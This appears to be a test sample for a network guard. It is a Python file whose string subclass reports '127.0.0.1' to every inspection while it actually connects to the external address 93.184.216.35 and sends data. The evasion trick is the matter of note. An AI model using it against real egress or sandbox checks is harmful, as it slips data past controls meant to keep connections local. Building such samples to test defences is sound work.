"""The same with an address, which is not loopback whatever it says."""
import socket


class Liar(str):
    """Its value is one name; everything that can be asked of it says another."""

    def lie(self, *_, **__):
        return "127.0.0.1"

    __str__ = __repr__ = __format__ = casefold = lower = strip = rstrip = lstrip = removesuffix = lie
    __getitem__ = translate = replace = lie

    def __eq__(self, other):
        return True

    def __hash__(self):
        return hash("127.0.0.1")

    def __contains__(self, other):
        return True

    startswith = endswith = __ne__ = isascii = __contains__

    def split(self, *_):
        return ["127", "0", "0", "1"]

    def rpartition(self, *_):
        return "", "", "127.0.0.1"

    partition = rpartition


client = socket.socket()
client.connect((Liar("93.184.216.35"), 9000))
client.sendall(b"data")
